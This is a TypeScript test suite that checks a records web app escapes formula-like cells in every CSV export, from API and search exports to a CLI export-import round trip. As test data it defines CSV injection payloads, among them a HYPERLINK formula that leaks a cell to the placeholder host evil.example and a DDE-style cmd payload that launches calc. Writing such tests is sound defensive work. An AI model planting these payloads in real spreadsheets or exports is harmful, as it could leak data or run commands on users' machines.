import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StoredRecord } from '../src/domain/record.ts';
import { buildServer } from '../src/web/server.tsx';
import { formBody } from './support/accounts.ts';
import { bhr } from './support/cli.ts';
import { aRecord } from './support/records.ts';
import { insertResponseRequest } from './support/responses.ts';
import { STORE_BACKENDS } from './support/stores.ts';

/**
 * Every CSV the app writes, fed published values that a spreadsheet would run as formulas: each such cell
 * must come out with a leading quote, so that no cell of any of them starts with a formula character.
 */

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
const PLUS = '+1 Holdings';
const MINUS = '-2 workers unpaid';
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const TAB = '\tTabbed summary';
const RETURN = '\rReturned summary';

/** The cells of a CSV that a spreadsheet would read as a formula (a number is a number, not a formula). */
function formulaCells(csv: string): string[] {
  return (parse(csv, { relax_column_count: true }) as string[][])
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)));
}

function recordRows(csv: string): Record<string, string>[] {
  return parse(csv, { columns: true }) as Record<string, string>[];
}

describe.each(STORE_BACKENDS)('CSV cells that start like formulas, on $name', (backend) => {
  let app: FastifyInstance;
  let dispose: () => Promise<void>;
  let location: string;
  let dir: string;
  const saved: StoredRecord[] = [];

  beforeAll(async () => {
    const created = await backend.create();
    ({ dispose, location } = created);
    const { store } = created;
    dir = mkdtempSync(join(tmpdir(), 'bhr-csv-injection-'));
    const author = { userId: null, name: 'test' };
    const hostile = [
      aRecord({
        status: 'published',
        title: HYPERLINK,
        summary: TAB,
        dateReported: '2025-05-05',
        location: { country: 'MY', city: PLUS },
        companies: [{ name: SUM, role: 'Employer' }],
        sources: [{ companies: [SUM], headline: HYPERLINK, excerpt: MINUS }],
      }),
      aRecord({
        status: 'published',
        title: MINUS,
        summary: RETURN,
        dateReported: '2025-06-06',
        location: { country: 'MY', city: SUM },
        companies: [{ name: PLUS, role: 'Employer' }],
        sources: [{ companies: [PLUS], headline: MINUS, excerpt: SUM }],
      }),
    ];
    for (const record of hostile)
      saved.push(await store.records.saveRecord({ record, author, action: 'create' }));
    await insertResponseRequest(created.connection.db, {
      recordId: saved[0]!.id,
      companyName: SUM,
      status: 'requested',
      review: null,
    });
    app = await buildServer(store);
  });
  afterAll(async () => {
    await app.close();
    await dispose();
    rmSync(dir, { recursive: true, force: true });
  });

  it.each(['/api/v1/export.csv', '/search.csv'])('%s guards every text field of a record', async (url) => {
    const response = await app.inject(url);
    expect(response.statusCode).toBe(200);
    expect(formulaCells(response.body)).toEqual([]);
    const rows = recordRows(response.body);
    expect(rows.map((row) => row.title).sort()).toEqual([`'${HYPERLINK}`, `'${MINUS}`].sort());
    const first = rows.find((row) => row.title === `'${HYPERLINK}`)!;
    expect(first).toMatchObject({ summary: `'${TAB}`, locationCity: `'${PLUS}` });
    expect(rows.find((row) => row.title === `'${MINUS}`)).toMatchObject({
      summary: `'${RETURN}`,
      locationCity: `'${SUM}`,
    });
    // Each company role has a column: a company's name is a cell of its own, guarded like any other.
    expect(first).toMatchObject({
      Employer: `'${SUM}`,
      sourceHeadline: `'${HYPERLINK}`,
      sourceExcerpt: `'${MINUS}`,
    });
  });

  it('guards the companies in a chart CSV of the analytics, and writes the counts as numbers', async () => {
    const response = await app.inject('/analytics/data.csv?chart=companies');
    expect(response.statusCode).toBe(200);
    expect(formulaCells(response.body)).toEqual([]);
    const rows = recordRows(response.body);
    expect(rows.map((row) => row.label).sort()).toEqual([`'${PLUS}`, `'${SUM}`].sort());
    expect(rows.map((row) => row.records)).toEqual(['1', '1']);
  });

  it('guards the companies of the response-rates CSV', async () => {
    const response = await app.inject('/response-rates?by=company&format=csv');
    expect(response.statusCode).toBe(200);
    expect(formulaCells(response.body)).toEqual([]);
    expect(recordRows(response.body)).toEqual([
      expect.objectContaining({ company: `'${SUM}`, requested: '1' }),
      expect.objectContaining({ company: 'all', requested: '1' }),
    ]);
  });

  it('guards every cell of the screening report, which is built from the posted form', async () => {
    const response = await app.inject({
      method: 'POST',
      url: '/screening/report',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: formBody({
        file: 'suppliers.csv',
        'rows.0.id': MINUS,
        'rows.0.name': HYPERLINK,
        'rows.0.country': PLUS,
        'rows.0.matches.0.companyId': SUM,
        'rows.0.matches.0.name': SUM,
        'rows.0.matches.0.score': '0.912',
        'rows.0.matches.0.match': 'true',
        'rows.0.matches.0.allegations': '2',
        'rows.0.matches.0.via': TAB,
        'rows.0.matches.0.decision': 'confirmed',
        'rows.1.id': 'S-2',
        'rows.1.name': RETURN,
        'rows.1.error': '=1+1',
      }),
    });
    expect(response.statusCode).toBe(200);
    expect(formulaCells(response.body)).toEqual([]);
    expect(recordRows(response.body)).toEqual([
      expect.objectContaining({
        input_id: `'${MINUS}`,
        input_name: `'${HYPERLINK}`,
        input_country: `'${PLUS}`,
        company_id: `'${SUM}`,
        company_name: `'${SUM}`,
        score: '0.912',
        via_subsidiaries: `'${TAB}`,
        decision: 'confirmed',
      }),
      expect.objectContaining({ input_id: 'S-2', input_name: `'${RETURN}`, error: "'=1+1" }),
    ]);
  });

  it('bhr export --format csv guards the cells, and bhr import of that file gives the values back', async () => {
    const exported = await bhr(['export', '--format', 'csv', '--db', location]);
    expect(exported.code).toBe(0);
    expect(formulaCells(exported.stdout)).toEqual([]);
    expect(recordRows(exported.stdout).map((row) => row.title)).toContain(`'${HYPERLINK}`);
    const file = join(dir, 'records.csv');
    writeFileSync(file, exported.stdout);
    const fresh = join(dir, 'fresh.sqlite');
    const imported = await bhr(['import', file, '--db', fresh]);
    expect(imported.stderr).toBe('');
    const again = await bhr(['export', '--format', 'ndjson', '--db', fresh]);
    const records = again.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as StoredRecord);
    const fields = (record: StoredRecord) => ({
      title: record.title,
      summary: record.summary,
      city: record.location.city,
      companies: record.companies.map((company) => company.name),
      sources: record.sources.map(({ headline, excerpt }) => ({ headline, excerpt })),
    });
    expect(records.map(fields)).toEqual(
      expect.arrayContaining(saved.map(fields)) as ReturnType<typeof fields>[],
    );
    expect(records).toHaveLength(saved.length);
  }, 120_000);
});
